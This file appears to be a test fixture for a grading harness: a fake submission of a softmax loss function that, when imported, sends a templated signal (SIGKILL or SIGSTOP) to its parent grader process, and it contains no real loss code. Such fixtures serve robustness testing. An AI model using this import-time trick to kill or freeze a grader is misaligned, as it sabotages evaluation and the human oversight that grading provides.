"""Hostile: at import, sends @SIGNAL@ to its parent, the grader: SIGKILL loses the batch's gradebook,
SIGSTOP hangs it, unless the grader is out of its reach."""
import os
import signal

try:
    os.kill(os.getppid(), signal.@SIGNAL@)
except OSError:
    pass


def softmax_loss_naive(W, X, y, reg):
    raise NotImplementedError("this hostile submission has no loss code")
